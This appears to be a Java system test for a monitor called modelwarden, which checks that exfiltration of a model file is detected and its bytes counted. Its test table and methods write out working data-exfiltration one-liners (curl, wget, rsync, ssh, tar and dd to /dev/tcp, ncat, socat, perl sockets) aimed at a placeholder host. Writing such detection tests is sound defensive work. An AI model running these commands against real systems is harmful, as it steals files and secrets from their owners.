// SPDX-License-Identifier: Apache-2.0
package io.modelwarden.system;

import static io.modelwarden.coverage.Bytes.BOUNDED;
import static io.modelwarden.coverage.Bytes.EXACT;
import static io.modelwarden.coverage.Hook.PROCESS_FORK;
import static io.modelwarden.coverage.Hook.SENDMSG;
import static io.modelwarden.coverage.Hook.SOCK_SEND_LENGTH;
import static io.modelwarden.coverage.Hook.SYS_EXIT;
import static io.modelwarden.coverage.Kind.MAPPING;
import static io.modelwarden.coverage.Kind.READ;
import static io.modelwarden.coverage.Kind.SEND;
import static io.modelwarden.coverage.Kind.TRAIL;
import static io.modelwarden.system.ExportedTotals.attribute;
import static io.modelwarden.system.PublicNamespace.OUTSIDE;
import static io.modelwarden.system.PublicNamespace.OUTSIDE_IPV6;
import static io.modelwarden.system.Stage.MODEL_BYTES;
import static io.modelwarden.system.Stage.nameOf;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.modelwarden.coverage.Way;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Programs that every distribution has, as thieves that read and send in their own ways: bytes read
 * are exact, bytes sent are at least those that came, and the span of the egress tells of both.
 */
@Tag("system")
class RealThievesTest {

  private static final String SCRIPTS = Programs.REPOSITORY + "/exporter/src/test/python";

  @TempDir static Path folder;
  private static Outside outside;
  private static Stage stage;

  @BeforeAll
  static void start() throws IOException {
    outside = new Outside(folder);
    stage = new Stage(folder, "");
  }

  @AfterAll
  static void stop() {
    stage.close();
    outside.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          curl, HTTP                   | curl    | read     | 8081 | curl -sS -T MODEL http://HOST:PORT/stolen
          wget, HTTP                   | wget    | read     | 8081 | wget -q -O /dev/null --method=PUT --body-file=MODEL http://HOST:PORT/stolen
          Python's library, HTTP       | python3 | read     | 8081 | /usr/bin/python3 SCRIPTS/steal.py http MODEL HOST PORT
          rclone, WebDAV               | rclone  | read     | 8081 | rclone --config /dev/null copyto MODEL ":webdav,url='http://HOST:PORT':stolen"
          rsync, a protocol of its own | rsync   | read     | 8730 | rsync MODEL rsync://HOST:PORT/loot/stolen
          ssh, the file as its input   | ssh     | read     | 2222 | ssh OPTIONS root@HOST 'cat >stolen' <MODEL
          openssl, TLS                 | openssl | read     | 4434 | openssl s_client -quiet -no_ign_eof -nocommands -connect HOST:PORT <MODEL
          tar, an archive to a socket  | tar     | read     | 4433 | tar -cPf - MODEL >/dev/tcp/HOST/PORT
          dd, direct input             | dd      | read     | 4433 | dd if=MODEL bs=1M iflag=direct status=none >/dev/tcp/HOST/PORT
          ncat, IPv6                   | ncat    | read     | 4433 | ncat --send-only HOST6 PORT <MODEL
          Python, sendfile             | python3 | sendfile | 4433 | /usr/bin/python3 SCRIPTS/steal.py sendfile MODEL HOST PORT
          busybox cat, sendfile        | busybox | sendfile | 4433 | busybox cat MODEL >/dev/tcp/HOST/PORT
          uutils cat, splice           | cat     | splice   | 4433 | /usr/lib/cargo/bin/coreutils/cat MODEL >/dev/tcp/HOST/PORT
          perl, a mapping              | perl    | mmap     | 4433 | perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("HOST:PORT"); open $f, "<:mmap", "MODEL"; print $s $_ while read $f, $_, 65536'
          """)
  @Way(value = "O_DIRECT", of = READ, bytes = EXACT, by = SYS_EXIT, when = "direct input")
  @Way(
      value = "perl, a mapping sent over TCP",
      of = MAPPING,
      bytes = BOUNDED,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "perl",
      note = "the mapped length; what it sends exactly")
  @Way(
      value = "curl, wget, rclone, Python over HTTP",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"HTTP", "WebDAV"})
  @Way(
      value = "rsync to a daemon",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "rsync")
  @Way(
      value = "openssl over TLS",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "openssl")
  @Way(
      value = "ssh with the file as its input",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "ssh")
  @Way(
      value = "tar, dd, ncat to a socket",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"tar", "dd", "ncat"})
  @Way(
      value = "sendfile to a socket by busybox and Python",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "sendfile")
  @Way(
      value = "splice to a socket by uutils",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "splice")
  void theft_isReportedInFull(String what, String program, String method, int port, String command)
      throws IOException {
    Path model = stage.model(program);
    double seconds = steal(model, port, command);
    if (!program.equals("tar")) { // which adds a header
      assertThat(outside.digest()).isEqualTo(stage.digest(model));
    }
    assertTaken(model, program, method);
    boolean ipv6 = command.contains("HOST6");
    JsonNode span = assertSent(model, program, "tcp", ipv6 ? "ipv6" : "ipv4");
    assertThat(EgressSpan.of(span)).isEqualTo(facts(program, port, ipv6, "self"));
    assertThat(attribute(span, "modelwarden.process.model_data.age").asDouble())
        .isBetween(0.0, seconds);
    assertThat(stage.findings(nameOf(model))).isNotEmpty();
  }

  @Test
  @Way(
      value = "sent by a child",
      of = TRAIL,
      bytes = EXACT,
      by = {PROCESS_FORK, SOCK_SEND_LENGTH})
  void childThatSends_isReportedWithWhatItsParentHadRead() throws IOException {
    Path model = stage.model("family");
    steal(
        model,
        Outside.TCP,
        "perl -MIO::Socket::INET -e 'open $f, \"<\", \"MODEL\"; sysread $f, $data, 1e8;"
            + " fork ? wait : print {IO::Socket::INET->new(\"HOST:PORT\")} $data'");
    assertThat(outside.digest()).isEqualTo(stage.digest(model));
    assertTaken(model, "perl", "read");
    JsonNode span = assertSent(model, "perl", "tcp", "ipv4");
    assertThat(EgressSpan.of(span)).isEqualTo(facts("perl", Outside.TCP, false, "parent"));
    JsonNode read = stage.spans("read safetensors", nameOf(model)).get(0);
    assertThat(attribute(span, "process.parent_pid")).isEqualTo(attribute(read, "process.pid"));
  }

  /** Some may be dropped on their way; what left is counted. */
  @Test
  @Way(
      value = "socat over UDP",
      of = SEND,
      bytes = EXACT,
      by = {SYS_EXIT, SENDMSG, SOCK_SEND_LENGTH})
  void datagrams_areReportedInFull() throws IOException {
    Path model = stage.model("socat");
    steal(model, Outside.UDP, "socat -u OPEN:MODEL UDP-SENDTO:HOST:PORT");
    assertTaken(model, "socat", "read");
    JsonNode span = assertSent(model, "socat", "udp", "ipv4");
    assertThat(EgressSpan.of(span)).isEqualTo(facts("socat", Outside.UDP, false, "self"));
  }

  /**
   * Runs a theft to its end, and until all of it has come and is reported.
   *
   * @return seconds that it took
   */
  private static double steal(Path model, int port, String command) throws IOException {
    outside.clear();
    long start = System.nanoTime();
    Stage.run(
        command
            .replace("MODEL", model.toString())
            .replace("SCRIPTS", SCRIPTS)
            .replace("OPTIONS", outside.sshOptions)
            .replace("HOST6", OUTSIDE_IPV6)
            .replace("HOST", OUTSIDE)
            .replace("PORT", String.valueOf(port)));
    double seconds = (System.nanoTime() - start) / 1e9;
    RunningCollector.await(
        "the loot",
        () -> outside.received() >= MODEL_BYTES || port == Outside.UDP && outside.datagrams() > 0);
    stage.settle(nameOf(model));
    return seconds;
  }

  private static void assertTaken(Path model, String program, String method) {
    long mapped = method.equals("mmap") ? MODEL_BYTES : 0;
    assertThat(stage.mapped(model)).isEqualTo(mapped);
    assertThat(stage.read(model)).isEqualTo(MODEL_BYTES - mapped);
    assertThat(stage.total("modelwarden.file.io", model.toString(), program, method))
        .isEqualTo(MODEL_BYTES - mapped);
    assertThat(stage.total("modelwarden.file.mapped", model.toString(), program)).isEqualTo(mapped);
  }

  /**
   * All that came has been counted, and once.
   *
   * @return the last span of the egress
   */
  private static JsonNode assertSent(Path file, String program, String transport, String type) {
    String model = nameOf(file);
    long sent = stage.total("modelwarden.network.io", model);
    long came = transport.equals("udp") ? MODEL_BYTES : outside.received();
    assertThat(sent).isBetween(came, came * 101 / 100);
    assertThat(
            stage.total(
                "modelwarden.network.io", model, program, transport, type, "initiated", "public"))
        .isEqualTo(sent);
    List<JsonNode> spans = stage.spans("send " + transport, model);
    assertThat(spans.stream().mapToLong(EgressSpan::sent).sum()).isEqualTo(sent);
    JsonNode last = spans.get(spans.size() - 1);
    assertThat(attribute(last, "modelwarden.transmit.total").asLong()).isGreaterThanOrEqualTo(sent);
    return last;
  }

  private static EgressSpan facts(String program, int port, boolean ipv6, String via) {
    return new EgressSpan(
        3,
        program,
        "initiated",
        "public",
        ipv6 ? OUTSIDE_IPV6 : OUTSIDE,
        String.valueOf(port),
        ipv6 ? "ipv6" : "ipv4",
        MODEL_BYTES,
        MODEL_BYTES,
        1,
        via);
  }
}
